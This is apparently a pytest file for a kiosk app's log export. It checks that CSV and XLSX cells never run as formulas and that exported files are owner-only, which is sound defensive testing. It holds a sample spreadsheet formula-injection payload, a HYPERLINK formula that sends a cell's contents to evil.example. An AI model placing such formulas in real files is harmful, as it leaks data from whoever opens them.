"""Exports never attack their reader: no cell of a CSV or an XLSX runs as a formula."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from kiosk.domain.log import LogEntry, LogKind
from kiosk.reports.export import export_log
from kiosk.station.event_file import REFERENCE_EVENT, load_event

TZ = load_event(REFERENCE_EVENT).tz
NOTE = '=HYPERLINK("http://evil.example/?"&B2,"click")'


def entry(detail: str) -> LogEntry:
    at = datetime(2025, 11, 24, 8, tzinfo=UTC)
    return LogEntry(7, "gate-1", 3, at, LogKind.DECISION, "media-entrance", "opening", "M0001", "", None, None,
                    "1001", False, 2, detail)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path, start):
    out = tmp_path / "log.csv"
    export_log([entry(start + "SUM(A1:A9)")], out, TZ)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["detail"] == "'" + start + "SUM(A1:A9)"


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    out = tmp_path / "log.xlsx"
    export_log([entry(NOTE)], out, TZ)
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    cell = load_workbook(out).active["O2"]
    assert cell.value == NOTE and cell.data_type == "s"


def test_exports_are_owner_only_even_over_an_older_file(tmp_path):
    for name in ("log.csv", "log.xlsx"):
        out = tmp_path / name
        out.write_text("old")
        out.chmod(0o644)
        export_log([entry("fine")], out, TZ)
        assert out.stat().st_mode & 0o777 == 0o600
